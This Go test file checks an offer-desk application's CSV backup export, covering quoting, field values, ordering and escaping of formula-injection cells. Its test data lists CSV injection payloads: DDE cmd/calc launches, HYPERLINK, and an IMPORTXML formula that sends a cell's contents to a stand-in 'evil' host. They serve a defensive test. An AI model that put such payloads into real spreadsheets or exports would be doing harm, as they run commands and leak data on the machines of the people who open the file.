package offer_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/shopspring/decimal"

	"github.com/offerdesk/offerdesk/offer"
	"github.com/offerdesk/offerdesk/offer/backup"
	"github.com/offerdesk/offerdesk/store"
	"github.com/offerdesk/offerdesk/store/memstore"
)

// exportedCSV reads the cells back, and wants each of them to be quoted.
func exportedCSV(t testing.TB, d *offer.Desk) [][]string {
	t.Helper()
	var b bytes.Buffer
	if err := backup.WriteCSV(t.Context(), storeOf(d), &b); err != nil {
		t.Fatal(err)
	}
	if rest := regexp.MustCompile(`(?m)("([^"]|"")*",)*"([^"]|"")*"\n`).ReplaceAll(b.Bytes(), nil); len(rest) > 0 {
		t.Errorf("cells are not quoted: %.200q", rest)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// field returns what a row has under a heading.
func field(t testing.TB, rows [][]string, id, heading string) string {
	t.Helper()
	i := slices.Index(rows[0], heading)
	for _, r := range rows[1:] {
		if r[0] == id && i >= 0 {
			return r[i]
		}
	}
	t.Fatalf("there is no %s of %s", heading, id)
	return ""
}

func TestExportCSV(t *testing.T) {
	f := lived(t)
	rows := exportedCSV(t, f.Desk)
	list, err := f.As(alice).List(t.Context(), offer.Query{Limit: 1000})
	if err != nil || len(rows) != len(list.Offers)+1 {
		t.Fatalf("%d rows of %d offers, %v", len(rows), len(list.Offers), err)
	}
	if len(rows[0]) != len(offer.Kinds()[0].Columns)+1 || rows[0][0] != "id" {
		t.Errorf("%q", rows[0])
	}
	if !slices.IsSortedFunc(rows[1:], func(a, b []string) int { return strings.Compare(a[0], b[0]) }) {
		t.Error("the rows are not in their order")
	}
	for _, c := range [][3]string{
		{"O-6", "status", "completed"}, {"O-6", "pay_hourly", "50.0000"}, {"O-6", "held", "false"}, {"O-6", "start_date", "2027-04-05"},
		{"O-6", "end_date", ""}, {"O-6", "created_at", "2027-03-01T09:06:00.000042Z"}, {"O-6", "imported", "false"}, {"O-1", "held", "true"},
		{"a:b@c", "client", "été & co"}, {"O-2", "terms_revision", "2"},
	} {
		if got := field(t, rows, c[0], c[1]); got != c[2] {
			t.Errorf("%s of %s is %q, wanted %q", c[1], c[0], got, c[2])
		}
	}
	for _, room := range []int{0, 600} {
		if err := backup.WriteCSV(t.Context(), storeOf(f), &full{room}); !errors.Is(err, errDown) {
			t.Errorf("%v", err)
		}
	}
}

// What a spreadsheet would run is text, and what is a number stays one.
func TestHostileCells(t *testing.T) {
	cells := map[string]string{
		"=1+1": "'=1+1", "+1 555": "'+1 555", "@SUM(A1)": "'@SUM(A1)", "-1+cmd|' /C calc'!A0": "'-1+cmd|' /C calc'!A0", "-": "'-", "--1": "'--1", "+1": "'+1",
		"\t=1": "'\t=1", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx", " =1": "' =1", "\u00a0=1": "'\u00a0=1", "\ufeff=1": "'\ufeff=1", "\x00=1": "'\x00=1",
		"＝1": "'＝1", "＋1": "'＋1", "－1": "'－1", "＠x": "'＠x", `=HYPERLINK("http://x","y")`: `'=HYPERLINK("http://x","y")`, "-1e9": "'-1e9", "-1,5": "'-1,5", "-1\n=2": "'-1\n=2",
		"|calc": "'|calc", "%0A=1": "'%0A=1", "a;=1+1": "a;=1+1", "\u200b=1+1": "'\u200b=1+1", `"=1+1"`: `"=1+1"`, "\\.": "\\.", `"`: `"`, "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		`=IMPORTXML(CONCAT("//evil/",A1),"//a")`: `'=IMPORTXML(CONCAT("//evil/",A1),"//a")`, `=DDE("cmd";"/C calc";"x")`: `'=DDE("cmd";"/C calc";"x")`,
		"12345678901234567890": "'12345678901234567890", "123456789012345": "123456789012345", "1234567890123456": "'1234567890123456", "1E5": "'1E5", "0012": "'0012", "2026-01-01": "'2026-01-01",
		"1/2": "'1/2", "TRUE": "'TRUE", "0.12345678901234567": "'0.12345678901234567", "-5.00": "-5.00", "1.2.3": "'1.2.3", "A-1": "A-1",
		"-12.50": "-12.50", "-7": "-7", "12": "12", "0.5": "0.5", "": "", "a=b": "a=b", "a-b": "a-b", "it's": "it's", "'x": "'x", "a,\"b\"\nc": "a,\"b\"\nc", "été": "été",
	}
	s := memstore.New(offer.Kinds()...)
	var want []string
	for _, text := range slices.Sorted(func(yield func(string) bool) {
		for text := range cells {
			if !yield(text) {
				return
			}
		}
	}) {
		id := "x" + text
		want = append(want, text)
		if err := s.Commit(t.Context(), store.Batch{Puts: []store.Put{{Kind: "offer", ID: id, Columns: store.Columns{"client": text, "pay_hourly": decimal.New(-5, -1)}, Body: []byte("{}")}}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Commit(t.Context(), store.Batch{Puts: []store.Put{{Kind: "offer", ID: "=id", Body: []byte("{}")}}}); err != nil {
		t.Fatal(err)
	}
	d, err := offer.Open(s, offer.Options{})
	if err != nil {
		t.Fatal(err)
	}
	rows := exportedCSV(t, d)
	if rows[1][0] != "'=id" {
		t.Errorf("an id is %q", rows[1][0])
	}
	at := slices.Index(rows[0], "client")
	for i, text := range want {
		// The reader of CSV takes CR LF in a cell as LF; there is none here.
		if got := rows[i+2][at]; got != cells[text] {
			t.Errorf("%q became %q, wanted %q", text, got, cells[text])
		}
		if pay := rows[i+2][slices.Index(rows[0], "pay_hourly")]; pay != "-0.5000" {
			t.Errorf("an amount became %q", pay)
		}
	}
}
